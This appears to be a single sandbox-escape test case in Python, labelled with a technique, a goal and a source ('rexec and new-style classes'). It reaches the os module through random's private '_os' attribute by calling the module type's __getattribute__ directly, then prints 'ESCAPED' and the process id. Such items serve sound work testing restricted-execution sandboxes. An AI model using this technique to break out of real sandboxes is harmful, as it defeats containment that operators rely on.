# technique: the module type's own __getattribute__
# goal: import
# source: rexec and new-style classes
import random
print('ESCAPED pid=%d' % type(random).__getattribute__(random, '_os').getpid())
